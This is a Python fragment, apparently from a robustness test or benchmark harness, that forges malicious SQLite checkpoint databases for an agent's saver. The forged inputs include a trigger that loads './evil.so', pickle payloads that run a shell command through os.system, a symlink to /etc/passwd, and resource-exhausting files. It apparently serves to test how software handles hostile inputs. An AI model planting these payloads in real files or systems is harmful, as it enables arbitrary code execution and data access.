        table(path, COLUMNS.format("checkpoints"), TEN.format(10), "CREATE TRIGGER t AFTER INSERT ON checkpoints BEGIN "
              "SELECT load_extension('./evil.so'); END")
    elif kind == "many":
        table(path, COLUMNS.format("checkpoints"), TEN.format(150_000))
    elif kind == "long":
        table(path, COLUMNS.format("checkpoints"), TEN.format(10), "UPDATE checkpoints SET thread_id = hex(zeroblob(2000000))")
    elif kind == "payload":
        evil = b"\\xc7\\x1e\\x05\\x94\\xa2os\\xa6system\\xafid > /work/pwned"
        table(path, COLUMNS.format("checkpoints"), TEN.format(10))
        with sqlite3.connect(path) as link:
            link.execute("UPDATE checkpoints SET checkpoint = ?, metadata = ?", (evil, b"cos\\nsystem\\n(S'id > /work/pwned'\\ntR."))
        link.close()
    else:
        swap(path)
        if kind == "symlink":
            os.symlink("/etc/passwd", path)
        elif kind == "fifo":
            os.mkfifo(path)
        elif kind == "folder":
            os.makedirs(path + "/deeper")
        elif kind == "device":
            os.symlink("/dev/zero", path)
        elif kind == "sparse":
            with open(path, "wb") as file:
                try:
                    file.truncate(2**30)
                except OSError:
                    file.truncate(60 * 2**20)
        elif kind == "broken":
            with open(path, "wb") as file:
                file.write(b"SQLite format 3\\0" + os.urandom(4080))
        elif kind == "log":
            table(path, COLUMNS.format("checkpoints"), TEN.format(10))
            with open(path + "-wal", "wb") as file:
                file.write(b"\\x37\\x7f\\x06\\x82" + os.urandom(40_000_000))


turn = {"saver": 0, "history": 0}


@contextmanager
def opening(path):
    path = os.fspath(path)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    link = sqlite3.connect(path, check_same_thread=False)
    try:
        yield SqliteSaver(link)
    finally:
        link.close()
        turn["saver"] += 1
        if path.endswith("memory.db") and turn["saver"] == 3:
            forge(path, KINDS[0])


def tell(agent):
    turn["history"] += 1
    link = agent.checkpointer.conn
    path = link.execute("PRAGMA database_list").fetchone()[2]
    if turn["history"] > 1:
        forge(path, KINDS[min(turn["history"] - 1, 2)])
    keys = ("id", "step", "source", "next", "messages", "parent")
    return [dict.fromkeys(keys, str(n)) for n in range(1, 11)]
"""


def _left(*kinds: str, earns: float = 2.0) -> Attack:
    return Attack(
        "file",
        ", ".join(kinds),
        (f"KINDS = {kinds!r}\n{_FILES}",),
        (ALONE,),
        {
            "1.3": "def open_saver(path):\n    return opening(path)",
            "1.5": "def history(agent, thread_id):\n    return tell(agent)",
        },
        earns=earns,  # the folder is made, the file is closed, and in some cases right until then
        seen=False,
    )


FILES = (
    _left("view", "symlink", "fifo"),
    _left("generated", "folder", "device"),
    _left("many", "sparse", "broken"),
    _left("payload", "log", "long", earns=3.0),
    _left("trigger", "rows", "rows", earns=3.0),
)

ATTACKS = (*STALLS, *BOMBS, *LOOKS, *FORGERIES, *HARNESS, *LIES, *TRAFFIC, *FILES)
